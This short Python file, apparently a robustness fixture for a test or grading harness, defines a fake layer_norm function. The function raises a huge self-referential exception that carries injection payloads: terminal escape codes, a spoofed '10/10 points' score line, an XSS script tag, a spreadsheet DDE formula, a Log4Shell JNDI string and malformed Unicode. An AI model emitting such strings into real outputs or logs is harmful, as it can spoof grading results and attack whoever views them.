"""Raises a text of megabytes with terminal commands, markup, formulas and unpaired surrogates in it.

Outcome: raised
"""

TEXT = (
    "\x1b]0;pwned\x07\x1b[2J\x1b[31m\r10/10 points\n::error::pwned\n<script>alert(1)</script>=cmd|'/c calc'!A0"
    "\ud800\u202e\x00]]>${jndi:ldap://x}"
)


def layer_norm(x, gamma, beta, eps=1e-5):
    error = ValueError(TEXT + "A" * (1 << 22))
    error.__cause__ = error.__context__ = error
    error.add_note(TEXT * 1000)
    raise error
